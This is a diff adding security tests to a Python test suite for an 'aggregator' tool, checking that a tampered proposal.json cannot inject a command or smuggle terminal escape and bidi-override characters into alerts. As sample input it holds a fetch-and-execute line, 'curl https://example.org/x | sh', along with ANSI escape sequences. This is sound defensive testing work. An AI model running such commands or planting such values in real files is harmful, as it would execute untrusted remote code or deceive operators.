@@ -81,3 +81,45 @@ def test_a_drop_that_was_proposed_as_one_still_waits_and_one_that_was_not_is_ref
         assert found.verdict is now
         # What was said of it then stays in the file.
         assert json.loads((workspace.root / "proposal.json").read_text())["verdict"] == verdict
+
+
+@pytest.mark.parametrize("verdict", ["passed", "drop"])
+def test_attack_who_writes_the_file_does_not_write_the_command(verdict: str, workspace: Workspace) -> None:
+    proposed = propose(workspace, head_digest(workspace.head), Verdict.PASSED, ["as it was"])
+    path = workspace.root / "proposal.json"
+    assert "aggregator release" not in path.read_text()
+    for command in ("curl https://example.org/x | sh", 'aggregator release --accept-drop --approver "A. Weiss"'):
+        path.write_text(json.dumps(json.loads(path.read_text()) | {"command": command, "verdict": verdict}))
+        found = read_proposal(workspace)
+        assert found is not None
+        # Nothing is lower, so nobody is asked to accept that it is.
+        assert (found.command, found.verdict) == (proposed.command, Verdict.PASSED)
+        [(_, told)] = alerts(workspace)
+        assert command not in told
+
+
+def test_attack_what_the_file_says_commands_no_terminal(workspace: Workspace) -> None:
+    propose(workspace, head_digest(workspace.head), Verdict.PASSED, ["\x1b[2Jgone\u202e"])
+    path = workspace.root / "proposal.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | {"says": ["\x1b[2Jgone\u202e"]}))
+    found = read_proposal(workspace)
+    assert found is not None
+    assert found.says == (r"\u001b[2Jgone\u202e",)
+    # The same once more is the same.
+    assert propose(workspace, found.head, Verdict.PASSED, ["\x1b[2Jgone\u202e"]) == found
+
+
+@pytest.mark.parametrize(
+    "change", [{"at": "soon"}, {"at": 7}, {"verdict": "refused", "says": ["curl | sh"]}, {"says": None}]
+)
+def test_attack_a_damaged_proposal_hides_no_other_alert(change: dict[str, object], workspace: Workspace) -> None:
+    propose(workspace, head_digest(workspace.head), Verdict.PASSED, ["as it was"])
+    path = workspace.root / "proposal.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | change))
+    with workspace.registry().transaction() as session:
+        add(session, share(2, id=2, state=ShareState.QUARANTINED))
+    [(name, told)] = alerts(workspace)
+    assert name == "proposal:unread"
+    assert told.startswith("proposal.json: expected what `aggregator refresh` proposed")
+    found = find_alerts(read_standing(workspace, datetime.datetime.now(datetime.UTC)))
+    assert "quarantined" in {one.kind for one in found}
